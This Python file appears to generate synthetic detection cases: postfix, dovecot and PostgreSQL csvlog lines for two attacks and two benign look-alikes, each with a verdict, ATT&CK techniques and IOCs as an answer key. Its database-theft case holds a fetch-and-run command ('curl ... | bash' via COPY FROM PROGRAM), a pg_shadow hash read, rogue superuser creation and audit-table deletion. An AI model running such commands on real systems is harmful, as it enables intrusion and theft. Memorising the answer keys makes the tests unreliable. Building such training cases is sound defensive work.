# ruff: noqa: E501
"""Mail servers and databases: postfix, dovecot, PostgreSQL's CSV log."""

from datetime import datetime, timedelta

from casebook import Case, Log


def syslog(when: datetime, host: str, program: str, pid: int, text: str) -> str:
    """A traditional syslog line, without a year."""
    return f"{when.strftime('%b %e %H:%M:%S')} {host} {program}[{pid}]: {text}"


def mail_background(case: Case, log: Log, host: str, domain: str, people: list[str], events: int, hours: float) -> None:
    """Mail in and out, people reading theirs."""
    homes = {person: f"10.25.3.{30 + position}" for position, person in enumerate(people)}
    for _ in range(events):
        when, person, pid = case.sometime(hours=hours), case.dice.choice(people), case.dice.randrange(900, 30000)
        queue = case.hex(10).upper()
        kind = case.dice.random()
        if kind < 0.35:
            log.add(
                when,
                syslog(
                    when,
                    host,
                    "dovecot",
                    611,
                    f"imap-login: Login: user=<{person}@{domain}>, method=PLAIN, rip={homes[person]}, lip=10.25.0.4, mpid={pid}, TLS, session=<{case.hex(12)}>",
                ),
            )
        elif kind < 0.7:
            log.add(
                when,
                syslog(
                    when, host, "postfix/smtpd", pid, f"{queue}: client=mx{pid % 7}.sender.example[{case.public()}]"
                ),
            )
            log.add(
                when + timedelta(seconds=1),
                syslog(
                    when + timedelta(seconds=1),
                    host,
                    "postfix/lmtp",
                    pid + 1,
                    f"{queue}: to=<{person}@{domain}>, relay=dovecot, delay=0.4, dsn=2.0.0, status=sent (250 2.0.0 Saved)",
                ),
            )
        else:
            log.add(
                when,
                syslog(
                    when,
                    host,
                    "postfix/submission/smtpd",
                    pid,
                    f"{queue}: client=unknown[{homes[person]}], sasl_method=PLAIN, sasl_username={person}@{domain}",
                ),
            )
            log.add(
                when + timedelta(seconds=1),
                syslog(
                    when + timedelta(seconds=1),
                    host,
                    "postfix/smtp",
                    pid + 2,
                    f"{queue}: to=<{case.hex(4)}@partner.example>, relay=mx.partner.example[{case.public()}]:25, delay=1.1, dsn=2.0.0, status=sent (250 ok)",
                ),
            )


def mailbox_takeover() -> Case:
    """Mailbox passwords are guessed; one fits; the account sends two hundred messages from a second address."""
    case = Case("m20_postfix_dovecot_mailbox_takeover", "2025-10-01 02:00:00")
    log = case.log("mail.log")
    people = ["post", "salg", "lager", "hanne", "tore", "regnskap"]
    domain, host = "fiskebruk.example", "mx1"
    mail_background(case, log, host, domain, people, 170, 6)
    attacker, sender = "198.51.100.150", "203.0.113.216"
    for number in range(66):
        when = case.after(minutes=60, seconds=14 * number)
        person = people[number % 6]
        log.add(
            when,
            syslog(
                when,
                host,
                "dovecot",
                611,
                f"imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<{person}@{domain}>, method=PLAIN, rip={attacker}, lip=10.25.0.4, TLS, session=<{case.hex(12)}>",
            ),
            "guessing",
        )
    when = case.after(minutes=76)
    log.add(
        when,
        syslog(
            when,
            host,
            "dovecot",
            611,
            f"imap-login: Login: user=<lager@{domain}>, method=PLAIN, rip={attacker}, lip=10.25.0.4, mpid=20111, TLS, session=<{case.hex(12)}>",
        ),
        "success",
    )
    for number in range(120):
        when = case.after(minutes=90, seconds=6 * number)
        queue = case.hex(10).upper()
        log.add(
            when,
            syslog(
                when,
                host,
                "postfix/submission/smtpd",
                21000 + number,
                f"{queue}: client=unknown[{sender}], sasl_method=LOGIN, sasl_username=lager@{domain}",
            ),
            "sending",
        )
        later = when + timedelta(seconds=2)
        log.add(
            later,
            syslog(
                later,
                host,
                "postfix/smtp",
                21500 + number,
                f"{queue}: to=<{case.hex(5)}@{case.dice.choice(('customer', 'partner', 'supplier'))}.example>, relay=mx.partner.example[{case.public()}]:25, delay=1.9, dsn={'5.7.1' if number > 90 else '2.0.0'}, status={'bounced (550 5.7.1 rejected as spam)' if number > 90 else 'sent (250 ok)'}",
            ),
            "~delivery",
        )
    case.alert = {
        "check": "mail queue",
        "state": "CRITICAL",
        "output": f"119 messages by lager@{domain} in 12 minutes",
        "last_change": case.after(minutes=100).strftime("%b %e %H:%M"),
    }
    return case.judge(
        "malicious",
        "high medium critical",
        "One address guesses the passwords of six mailboxes, gets lager's right; from a second address the account sends 120 messages to outsiders, many rejected as spam.",
        steps={
            "guessing": "failures for all mailboxes from one address",
            "success": "lager's mailbox is opened from it",
            "sending": "mass sending from a second address with the same account",
        },
        techniques="T1110",
        more_techniques="T1110.001 T1110.003 T1078 T1534 T1566 T1566.002 T1586.002 T1114.002 T1496 T1496.003 T1078.003",
        iocs=(attacker, sender),
        more_iocs=(f"lager@{domain}", "lager"),
        not_iocs=("10.25.0.4", f"hanne@{domain}", "10.25.3.32"),
    )


def newsletter() -> Case:
    """The newsletter goes out as on every Thursday."""
    case = Case("b17_postfix_newsletter", "2025-06-05 06:00:00")
    log = case.log("maillog")
    domain, host = "hagesenter.example", "mail2"
    mail_background(case, log, host, domain, ["kundeservice", "nyhetsbrev", "butikk"], 120, 8 * 24)
    for week in range(2):
        for number in range(75):
            when = case.after(days=7 * week, hours=3, seconds=4 * number)
            queue = case.hex(10).upper()
            log.add(
                when,
                syslog(
                    when,
                    host,
                    "postfix/submission/smtpd",
                    7000 + number,
                    f"{queue}: client=news-app.{domain}[10.25.7.9], sasl_method=PLAIN, sasl_username=nyhetsbrev@{domain}",
                ),
                "alerted" if week else "habit",
            )
            later = when + timedelta(seconds=1)
            log.add(
                later,
                syslog(
                    later,
                    host,
                    "postfix/cleanup",
                    7100 + number,
                    f"{queue}: info: header List-Unsubscribe: <https://{domain}/avmelding> from news-app.{domain}[10.25.7.9]",
                ),
                "header",
            )
    case.alert = {
        "subject": "Mass mailing by one account: possible compromise",
        "sev": "HIGH",
        "since": case.after(days=7, hours=3).strftime("%b %d %H:%M:%S"),
        "account": f"nyhetsbrev@{domain}",
        "count": 75,
    }
    return case.judge(
        "benign",
        "informational low",
        "The newsletter application sends from its own address with an unsubscribe header, as it did at the same hour a week before.",
        steps={
            "alerted": "the alerted mailing, from the newsletter application",
            "habit": "the same a week before at the same hour",
        },
        optional={"header": "each message carries an unsubscribe header"},
        not_iocs=(f"nyhetsbrev@{domain}", "10.25.7.9"),
    )


def postgres(
    case: Case,
    when: datetime,
    user: str,
    database: str,
    address: str,
    session: int,
    tag: str,
    message: str,
    severity: str = "LOG",
) -> str:
    """A row of PostgreSQL's csvlog."""
    quoted = message.replace('"', '""')
    return f'{when:%Y-%m-%d %H:%M:%S}.{when.microsecond // 1000:03d} UTC,"{user}","{database}",{3000 + session},"{address}:{case.dice.randrange(33000, 60000)}",{session:x}.{session + 40:x},{session % 50},"{tag}",{case.start:%Y-%m-%d %H:%M:%S} UTC,4/{session},0,{severity},00000,"{quoted}",,,,,,,,,"psql","client backend",,0'


def audit(kind: str, command: str, target: str, statement: str) -> str:
    """A pgaudit message."""
    return f'AUDIT: SESSION,1,1,{kind},{command},{target},"{statement}",<none>'


def database_background(case: Case, log: Log, events: int, hours: float) -> None:
    """An application's reads and writes."""
    for _ in range(events):
        when, session = case.sometime(hours=hours), case.dice.randrange(100, 900)
        kind, command, target, statement = case.dice.choice(
            (
                ("READ", "SELECT", "TABLE,public.orders", "select * from orders where id = $1"),
                ("READ", "SELECT", "TABLE,public.customers", "select name, city from customers where id = $1"),
                ("WRITE", "UPDATE", "TABLE,public.stock", "update stock set left = left - 1 where sku = $1"),
                ("WRITE", "INSERT", "TABLE,public.order_lines", "insert into order_lines values ($1, $2, $3)"),
            )
        )
        log.add(
            when,
            postgres(
                case, when, "shopapp", "shop", "10.81.0.21", session, command, audit(kind, command, target, statement)
            ),
        )


def database_theft() -> Case:
    """The application's account is used from another machine to read everything and to run programs."""
    case = Case("m21_postgres_csvlog_copy_program", "2025-05-28 00:00:00")
    log = case.log("postgresql-2025-05-28.csv")
    database_background(case, log, 330, 5)
    address = "10.81.4.66"
    acts = (
        (150, "connect", "authentication", 'password authentication failed for user "postgres"', "FATAL"),
        (150.2, "connect", "authentication", 'password authentication failed for user "admin"', "FATAL"),
        (151, "connect", "authentication", "connection authorized: user=shopapp database=shop", "LOG"),
        (
            152,
            "look",
            "SELECT",
            audit("READ", "SELECT", "TABLE,pg_catalog.pg_shadow", "select usename, passwd from pg_shadow"),
            "LOG",
        ),
        (
            153,
            "look",
            "SELECT",
            audit(
                "READ", "SELECT", "TABLE,information_schema.tables", "select table_name from information_schema.tables"
            ),
            "LOG",
        ),
        (156, "dump", "COPY", audit("READ", "COPY", "TABLE,public.customers", "copy customers to stdout"), "LOG"),
        (157, "dump", "COPY", audit("READ", "COPY", "TABLE,public.cards", "copy cards to stdout"), "LOG"),
        (
            160,
            "program",
            "COPY",
            audit("MISC", "COPY", ",", "copy t from program 'curl -s http://203.0.113.7/p.sh | bash'"),
            "LOG",
        ),
        (
            163,
            "role",
            "CREATE ROLE",
            audit("ROLE", "CREATE ROLE", ",", "create role pg_monitor_ext superuser login password <REDACTED>"),
            "LOG",
        ),
        (
            165,
            "drop",
            "DROP TABLE",
            audit("DDL", "DROP TABLE", "TABLE,public.audit_trail", "drop table audit_trail"),
            "LOG",
        ),
    )
    for position, (minutes, step, tag, message, severity) in enumerate(acts):
        when = case.after(minutes=minutes)
        user = "shopapp" if position > 1 else ("postgres", "admin")[position]
        log.add(when, postgres(case, when, user, "shop", address, 950 + position, tag, message, severity), step)
    case.alert = {
        "policy": "COPY ... PROGRAM used",
        "db": {"name": "shop", "user": "shopapp"},
        "client": address,
        "seen": case.after(minutes=160).strftime("%Y-%m-%d %H:%M:%S UTC"),
        "importance": "urgent",
    }
    return case.judge(
        "malicious",
        "critical high",
        "From a machine that never uses the database, after failures for other names, shopapp's password is used to read password hashes, copy customers and cards, run a script from outside in the database server, create a superuser and drop the audit table.",
        steps={
            "dump": "whole tables of customers and cards are copied",
            "program": "a script from outside is run by the database server",
            "role": "a superuser is created",
        },
        optional={
            "connect": "failures, then the application's account, from a new machine",
            "look": "password hashes and tables are read",
            "drop": "the audit table is dropped",
        },
        techniques="T1059.004 T1136",
        more_techniques="T1213 T1213.006 T1078 T1105 T1005 T1110.001 T1110 T1003 T1059 T1070 T1485 T1087 T1190 T1505.001 T1505 T1136.001 T1098 T1082 T1041 T1562 T1552",
        iocs=(address, "203.0.113.7", "pg_monitor_ext"),
        more_iocs=("http://203.0.113.7/p.sh", "p.sh", "shopapp"),
        not_iocs=("10.81.0.21",),
    )


def migration() -> Case:
    """A nightly dump, and a migration whose statements carry its number."""
    case = Case("b18_postgres_csvlog_migration", "2025-09-14 22:00:00")
    log = case.log("postgresql.csv")
    database_background(case, log, 240, 76)
    for night in range(3):
        for position, table in enumerate(("customers", "orders", "order_lines", "stock")):
            when = case.after(hours=24 * night + 3, seconds=11 * position)
            log.add(
                when,
                postgres(
                    case,
                    when,
                    "dump",
                    "shop",
                    "10.81.0.5",
                    700 + position,
                    "COPY",
                    audit("READ", "COPY", f"TABLE,public.{table}", f"COPY public.{table} TO stdout;"),
                ),
                "alerted" if night == 2 else "habit",
            )
    for position, (command, statement) in enumerate(
        (
            ("ALTER TABLE", "/* migration 0142 CHG-2290 */ alter table customers add column locale text"),
            ("CREATE ROLE", "/* migration 0142 CHG-2290 */ create role reporting nologin"),
            ("DROP TABLE", "/* migration 0142 CHG-2290 */ drop table customers_old"),
            ("GRANT", "/* migration 0142 CHG-2290 */ grant select on orders to reporting"),
        )
    ):
        when = case.after(hours=50, minutes=30, seconds=3 * position)
        log.add(
            when,
            postgres(
                case,
                when,
                "migrator",
                "shop",
                "10.81.0.9",
                800 + position,
                command,
                audit("DDL", command, "TABLE,public.customers", statement),
            ),
            "migration",
        )
    case.alert = {
        "name": "Tables copied in bulk shortly after schema and role changes",
        "severity": "high",
        "occurred": {"day": "2025-09-17", "time": "01:00"},
        "database": "shop",
        "actors": ["dump", "migrator"],
    }
    return case.judge(
        "benign",
        "informational low",
        "The dump account copies the four tables from the backup machine at one every night; the migration before it carries its number and change in each statement and grants no log-in.",
        steps={
            "alerted": "the alerted copies",
            "habit": "the same copies on the two nights before",
            "migration": "the statements name migration and change",
        },
        not_iocs=("10.81.0.5", "10.81.0.9", "dump", "migrator"),
    )


CASES = (mailbox_takeover, newsletter, database_theft, migration)
